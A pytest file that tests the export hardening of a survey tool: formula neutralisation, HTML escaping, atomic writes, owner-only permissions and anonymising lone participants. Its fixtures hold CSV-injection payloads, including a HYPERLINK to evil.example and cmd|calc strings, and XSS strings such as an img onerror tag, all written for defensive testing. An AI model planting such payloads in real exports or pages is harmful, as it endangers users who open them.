"""Exports: no spreadsheet formula, no HTML, no torn file, no readable-by-others file, and
no department that points at one person.

Attacks from issue 8 (a department ``=HYPERLINK(...)`` or ``+cmd|...`` became a live
formula; ``<img onerror>`` and ``|`` passed into the Markdown; a full disk left a
truncated export) and issue 7 (exports and session files were 0644; the raw rows named
the department of a lone participant).
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import re
import resource
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from hostile_helpers import make_session, questionnaire

from coherence_tui.app import CoherenceApp
from coherence_tui.domain.model import Level
from coherence_tui.screens.facilitator import FacilitatorScreen
from coherence_tui.storage.fileio import write_private
from coherence_tui.storage.store import ImportRow, SessionStore
from tests.cli.conftest import Run

ITEMS = ("d1", "r1", "b1", "b2")
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)


def mode(path: Path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def answers(
    code: str, level: Level, department: str | None, value: int | None = 1
) -> list[ImportRow]:
    return [ImportRow(code, level, department, item, value) for item in ITEMS]


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# -- CSV: formulas neutralised, numbers left alone ----------------------------------------


def test_csv_export_neutralises_formula_departments_and_keeps_numbers(
    run: Run, tmp_path: Path
) -> None:
    path = make_session(tmp_path, departments=FORMULAS, k=1)
    SessionStore.open(path).import_answers(
        [
            row
            for n, department in enumerate(FORMULAS)
            for row in answers(f"P{n}", Level.BOARD, department, value=-2)
        ]
    )

    done = run("export", str(path), "--format", "csv")

    assert done.returncode == 0, done.stderr
    rows = csv_rows(done.stdout)[1:]
    assert {r[2] for r in rows} == {"'" + department for department in FORMULAS}
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r[:4])
    assert {r[4] for r in rows} == {"-2"}, "the value column stays a plain number"


# -- Markdown: text, never HTML or table columns --------------------------------------------


def unescaped_pipes(line: str) -> int:
    return len(re.findall(r"(?<!\\)\|", line))


def test_markdown_export_escapes_html_pipes_and_links(run: Run, tmp_path: Path) -> None:
    hostile = "<img src=x onerror=alert(1)> a|b [click](javascript:alert(1))"
    q = questionnaire(
        title="<script>alert('title')</script>",
        texts=(
            f"Statement one {hostile}",
            "Statement | two | adds | columns",
            "We call customers back when we said we would.",
            "Complaints get passed around between teams.",
        ),
    )
    path = make_session(tmp_path, departments=("<b>Care</b>|x",), k=1, q=q)
    SessionStore.open(path).import_answers(answers("P1", Level.BOARD, "<b>Care</b>|x"))

    done = run("export", str(path), "--format", "md")

    assert done.returncode == 0, done.stderr
    markdown = done.stdout
    assert "<img" not in markdown and "<script" not in markdown and "<b>" not in markdown
    assert "&lt;img src=x onerror=alert(1)&gt; a\\|b \\[click\\](javascript:alert(1))" in markdown
    assert "](javascript" not in markdown.replace("\\]", "")
    table = [line for line in markdown.splitlines() if line.startswith("| d1 ") or "| r1 |" in line]
    header = next(line for line in markdown.splitlines() if line.startswith("| ID |"))
    assert table and all(unescaped_pipes(line) == unescaped_pipes(header) for line in table)
    group_row = next(line for line in markdown.splitlines() if "Care" in line and "|" in line)
    assert "&lt;b&gt;Care&lt;/b&gt;\\|x" in group_row


# -- atomic: a full disk never leaves a torn file -------------------------------------------


def limit_file_size() -> None:
    """In the child: files may not grow past 2 KiB (writes then fail with EFBIG)."""
    resource.setrlimit(resource.RLIMIT_FSIZE, (2048, 2048))


@pytest.mark.parametrize("existing", [True, False])
def test_an_export_that_cannot_be_written_in_full_leaves_no_torn_file(
    tmp_path: Path, existing: bool
) -> None:
    path = make_session(tmp_path, k=1)
    out = tmp_path / "out" / "report.json"
    out.parent.mkdir()
    if existing:
        out.write_text("the previous export\n")
    before = out.read_bytes() if existing else None

    done = subprocess.run(
        [sys.executable, "-m", "coherence_tui", "export", str(path), "--format", "json"]
        + ["-o", str(out)],
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        preexec_fn=limit_file_size,
        timeout=60,
    )

    assert done.returncode == 1
    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
    assert "File too large" in done.stderr and "no file was written or changed" in done.stderr
    assert (out.read_bytes() if out.exists() else None) == before
    assert sorted(p.name for p in out.parent.iterdir()) == (["report.json"] if existing else [])


def test_write_private_on_a_full_disk_keeps_the_previous_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "export.csv"
    target.write_text("previous\n")
    real_write = os.write
    calls: list[int] = []

    def fills_up(fd: int, data: bytes) -> int:
        calls.append(fd)
        if len(calls) > 1:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return real_write(fd, bytes(data)[:10])  # the first write lands half-way

    monkeypatch.setattr(os, "write", fills_up)
    with pytest.raises(OSError, match="No space left"):
        write_private(target, b"x" * 100)
    assert target.read_text() == "previous\n"
    assert [p.name for p in tmp_path.iterdir()] == ["export.csv"]


# -- owner-only files ---------------------------------------------------------------------


def test_session_lock_and_export_files_are_owner_only_whatever_the_umask(
    run: Run, tmp_path: Path
) -> None:
    umask = os.umask(0)
    try:
        done = run(
            "new", "acme", "--questionnaire", "general-en", extra_env={"COHERENCE_PIN": "2468"}
        )
        assert done.returncode == 0, done.stderr
        session = tmp_path / "sessions" / "acme.json"
        out = tmp_path / "acme.csv"
        assert run("export", "acme", "--format", "csv", "-o", str(out)).returncode == 0
    finally:
        os.umask(umask)

    assert mode(session) == 0o600
    assert mode(session.with_name("acme.json.lock")) == 0o600
    assert mode(session.parent) == 0o700
    assert mode(out) == 0o600


def test_temporary_files_are_owner_only_before_they_are_renamed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = make_session(tmp_path, k=1)
    store = SessionStore.open(path)
    seen: dict[str, int] = {}
    real_replace = os.replace

    def watching(src: str | Path, dst: str | Path) -> None:
        seen[Path(src).name] = mode(Path(src))
        real_replace(src, dst)

    monkeypatch.setattr(os, "replace", watching)
    old = os.umask(0)
    try:
        store.add_participant(Level.BOARD)
        write_private(tmp_path / "export.md", b"# report\n")
    finally:
        os.umask(old)

    # The session file (marked as journalled), its new journal, the export.
    assert len(seen) == 3 and all(name.endswith(".tmp") for name in seen)
    assert set(seen.values()) == {0o600}
    assert mode(store.journal_path) == 0o600


def test_an_old_world_readable_session_and_lock_lose_their_other_bits_on_write(
    tmp_path: Path,
) -> None:
    path = make_session(tmp_path, k=1)
    lock = path.with_name(path.name + ".lock")
    path.chmod(0o644)
    lock.chmod(0o666)

    SessionStore.open(path).add_participant(Level.BOARD)

    assert mode(path) == 0o640 and mode(lock) == 0o600


async def test_facilitator_exports_are_owner_only_in_an_owner_only_folder(
    tmp_path: Path,
) -> None:
    path = make_session(tmp_path, k=1)
    SessionStore.open(path).import_answers(answers("P1", Level.BOARD, None))
    app = CoherenceApp(start="run", session=path)
    async with app.run_test(size=(100, 30)) as pilot:
        await pilot.press("f12", *"2468", "enter")
        assert isinstance(app.screen, FacilitatorScreen)
        await pilot.press("c", "m")
        await app.workers.wait_for_complete()
        await pilot.pause()
    exports = tmp_path / "exports"
    files = sorted(exports.iterdir())
    assert [f.suffix for f in files] == [".csv", ".md"]
    assert mode(exports) == 0o700 and {mode(f) for f in files} == {0o600}


# -- raw rows never point at a lone person (issue 7) ---------------------------------------


def lone_people_session(tmp_path: Path) -> Path:
    """k = 3. Front-line Sales: three people. Board: one in Sales, one in Care (each alone in
    their cell). Front-line Care: two who answered and one who only opened the kiosk."""
    path = make_session(tmp_path / "sessions", name="acme", departments=("Sales", "Care"), k=3)
    store = SessionStore.open(path)
    rows = answers("FS1", Level.FRONT_LINE, "Sales")
    rows += answers("FS2", Level.FRONT_LINE, "Sales", value=None)  # don't know counts
    rows += answers("FS3", Level.FRONT_LINE, "Sales", value=-1)
    rows += answers("BS1", Level.BOARD, "Sales", value=2)
    rows += answers("BC1", Level.BOARD, "Care", value=-2)
    rows += answers("FC1", Level.FRONT_LINE, "Care") + answers("FC2", Level.FRONT_LINE, "Care")
    store.import_answers(rows)
    store.add_participant(Level.FRONT_LINE, "Care")  # no answer: does not count
    return path


def test_an_attacker_cannot_recover_a_lone_persons_department_from_the_raw_rows(
    run: Run, tmp_path: Path
) -> None:
    lone_people_session(tmp_path)

    table = csv_rows(run("export", "acme", "--format", "csv", check=True).stdout)
    document = json.loads(run("export", "acme", "--format", "json", check=True).stdout)

    csv_department = {r[0]: r[2] for r in table[1:]}
    json_department = {p["code"]: p["department"] for p in document["participants"]}
    # The attacker knows who sat on the board; the raw rows must not say where they work.
    for code in ("BS1", "BC1"):
        assert csv_department[code] == "" and json_department[code] is None
    # Nor may the two be told apart by anything but their anonymous code and answers.
    board = [r for r in table[1:] if r[1] == "board"]
    assert {(r[1], r[2]) for r in board} == {("board", "")}
    assert not any("Care" in cell for r in table for cell in r)
    assert all(p["department"] != "Care" for p in document["participants"])
    # Front-line Care holds two counting people (the third never answered): blanked too.
    assert csv_department["FC1"] == "" and json_department["FC2"] is None
    # A cell of k or more keeps its department.
    assert {csv_department[c] for c in ("FS1", "FS2", "FS3")} == {"Sales"}
    assert {json_department[c] for c in ("FS1", "FS2", "FS3")} == {"Sales"}


def test_identifiable_exports_keep_every_department_and_say_so(run: Run, tmp_path: Path) -> None:
    lone_people_session(tmp_path)

    done = run("export", "acme", "--format", "csv", "--identifiable")

    assert done.returncode == 0
    rows = {r[0]: r[2] for r in csv_rows(done.stdout)[1:]}
    assert rows["BC1"] == "Care" and rows["BS1"] == "Sales" and rows["FC1"] == "Care"
    assert done.stderr.count("\n") == 1 and "warning: --identifiable" in done.stderr
    quiet = run("export", "acme", "--format", "json")
    assert quiet.stderr == ""
